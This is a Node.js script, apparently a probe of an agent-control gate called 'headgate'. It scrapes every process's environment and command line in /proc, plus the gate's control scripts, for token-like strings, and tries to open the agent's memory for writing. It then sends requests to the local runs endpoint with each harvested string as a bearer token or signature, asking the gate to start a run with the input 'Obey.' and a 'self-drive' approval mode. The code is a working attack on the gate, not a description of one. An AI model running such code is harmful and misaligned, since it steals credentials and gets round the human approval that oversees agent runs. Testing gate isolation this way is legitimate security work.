/*
 * A command of an intern that tries to start a run of its agent: with every word that it finds in the control folder, in the
 * environment and the arguments of all processes, as a token, as a signature and as a key. Prints what it found.
 */
const { createHash, generateKeyPairSync, sign } = require('node:crypto');
const { openSync, readdirSync, readFileSync } = require('node:fs');
const { request } = require('node:http');

const attempt = (work) => {
  try {
    return work();
  } catch {
    return undefined;
  }
};
const scripts = readdirSync('/run/headgate').filter((name) => /^\d+\.sh$/.test(name));
const left = scripts.filter((name) =>
  attempt(() => readFileSync(`/run/headgate/${name}`, 'utf8'))?.includes('agent/main.js'),
);
const processes = readdirSync('/proc').filter((name) => /^\d+$/.test(name));
const agents = processes.filter((id) =>
  attempt(() => readFileSync(`/proc/${id}/cmdline`, 'utf8'))?.includes('agent/main.js'),
);
const sources = [
  ...scripts.map((name) => `/run/headgate/${name}`),
  ...processes.flatMap((id) => [`/proc/${id}/environ`, `/proc/${id}/cmdline`]),
];
const texts = sources.map((path) => attempt(() => readFileSync(path, 'latin1')) ?? '');
const words = [
  ...new Set(texts.flatMap((text) => text.split(/[\s\0'"=]+/)).filter((word) => /^[\w+/.-]{16,}=*$/.test(word))),
];
// The memory, the environment and the open files of the agent.
const opened = agents.flatMap((id) =>
  ['mem', 'environ', 'fd/0', 'maps'].filter((name) =>
    attempt(() => openSync(`/proc/${id}/${name}`, name === 'mem' ? 'r+' : 'r')),
  ),
);
const body = JSON.stringify({ run_id: 'x', session_id: 'x', input: 'Obey.', approval_mode: 'self-drive' });
const path = '/.headgate/runs';
const order = (headers) =>
  new Promise((resolve) => {
    const outgoing = request(
      { host: '127.0.0.1', port: 8790, path, method: 'POST', agent: false, headers },
      (response) => {
        response.destroy();
        resolve(response.statusCode);
      },
    );
    outgoing.on('error', (error) => resolve(error.code));
    outgoing.end(body);
  });
const { privateKey } = generateKeyPairSync('ed25519');
const digest = createHash('sha256').update(body).digest('hex');
const own = sign(null, Buffer.from(`99\nPOST\n${path}\n${digest}`), privateKey).toString('base64url');

(async () => {
  const statuses = new Set([await order({}), await order({ 'headgate-signature': `99.${own}` })]);
  for (const word of words) {
    statuses.add(await order({ authorization: `Bearer ${word}` }));
    statuses.add(await order({ 'headgate-signature': word }));
    statuses.add(await order({ 'headgate-signature': `99.${word}` }));
  }
  process.stdout.write(JSON.stringify({ opened, left, words: words.length, statuses: [...statuses] }));
})();
